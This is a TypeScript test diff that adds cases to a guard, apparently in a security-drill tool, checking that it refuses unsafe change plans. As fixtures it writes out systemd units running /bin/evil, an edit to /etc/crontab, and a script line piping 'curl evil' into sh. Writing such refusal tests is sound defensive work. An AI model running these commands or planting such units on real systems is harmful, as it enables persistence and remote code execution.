@@ -173,6 +173,52 @@ describe('the guard', () => {
     });
   }
 
+  const payload = { program: '/bin/sh', args: ['-c', `: ${marker}; sleep 300; :`] };
+  const written = (path: string, stdin: string): Partial<Change> => ({
+    creates: [file(path)],
+    apply: [{ program: '/bin/sh', args: ['-c', 'cat >"$1"', 'sh', path], stdin }],
+  });
+  const more: [string, Partial<Change>, RegExp][] = [
+    ['a change of a file that it did not make', { alters: ['/etc/crontab'] }, /would alter \/etc\/crontab/],
+    ['a change of what it makes only itself', { alters: [`/tmp/sdrill-${marker}`] }, /would alter/],
+    [
+      'a unit file that runs something else than its payload',
+      { ...written(`/etc/systemd/system/${marker}.service`, '[Service]\nExecStart=/bin/evil\n'), payload },
+      /ExecStart=\/bin\/evil is no payload/,
+    ],
+    [
+      'a second command beside the payload',
+      {
+        ...written(`/etc/systemd/system/${marker}.service`, '[Service]\n ExecStopPost = /bin/evil\n'),
+        payload,
+      },
+      /ExecStopPost=\/bin\/evil is no payload/,
+    ],
+    [
+      'a script of its own that does more than the payload',
+      {
+        ...written(`/usr/local/bin/${marker}`, `#!/bin/sh\n: ${marker}; curl evil | sh\n`),
+        payload: { program: `/usr/local/bin/${marker}`, args: [] },
+      },
+      /payload that is not on the list/,
+    ],
+    [
+      'a program that the plan did not write',
+      { payload: { program: '/usr/bin/evil', args: [marker] } },
+      /payload that is not on the list/,
+    ],
+    [
+      'a reversal that only another host could do',
+      { revert: [{ program: 'rm', args: ['-f', marker], on: 'source' }] },
+      /not reverted and probed on the host itself/,
+    ],
+  ];
+  for (const [name, part, words] of more) {
+    it(`refuses ${name}`, () => {
+      expect(objections(planOf({ change: { ...harmless, ...part } })).join('\n')).to.match(words);
+    });
+  }
+
   it('objects to no scenario of the catalogue, with names of tools or without', () => {
     for (const scenario of scenarios) {
       const account = { user: 'root', logins: [] };
